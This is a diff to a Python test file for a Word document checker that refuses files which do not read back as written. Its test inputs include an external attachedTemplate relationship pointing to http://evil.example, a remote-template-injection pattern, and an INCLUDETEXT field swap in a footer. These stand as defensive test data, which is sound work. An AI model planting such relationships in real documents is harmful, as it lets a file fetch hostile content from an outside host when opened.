@@ -22,6 +22,7 @@ from tests.support.word import SENT, replaced, unpacked
 
 ROOT = Path(__file__).parent.parent.parent
 PAGE = "word/document.xml"
+TEMPLATE = '<Relationship Id="x" Type="t/attachedTemplate" Target="http://evil.example" TargetMode="External"/>'
 
 
 def opened(document: Document) -> Any:
@@ -169,7 +170,7 @@ def test_it_holds_nothing_of_a_sample_and_nobody_s_name() -> None:
 @pytest.mark.parametrize(
     ("name", "meant", "broken"),
     [
-        (PAGE, "<w:t xml:space=\"preserve\">C12</w:t>", "<w:t>C21</w:t>"),
+        (PAGE, '<w:t xml:space="preserve">C12</w:t>', "<w:t>C21</w:t>"),
         (PAGE, "Boat house", "Boathouse"),
         (PAGE, "☑", "☐"),
         (PAGE, '<w:pStyle w:val="Heading1"/>', '<w:pStyle w:val="Heading2"/>'),
@@ -188,7 +189,7 @@ def test_it_holds_nothing_of_a_sample_and_nobody_s_name() -> None:
         ("word/footer1.xml", " NUMPAGES ", " INCLUDETEXT "),
         ("docProps/core.xml", "River", "Lake"),
         ("docProps/custom.xml", "partners", "public"),
-        ("word/_rels/document.xml.rels", "</Relationships>", '<Relationship Id="x" Type="t/attachedTemplate" Target="http://evil.example" TargetMode="External"/></Relationships>'),
+        ("word/_rels/document.xml.rels", "</Relationships>", f"{TEMPLATE}</Relationships>"),
     ],
 )  # fmt: skip
 def test_a_file_that_does_not_read_back_is_refused(name: str, meant: str, broken: str) -> None:
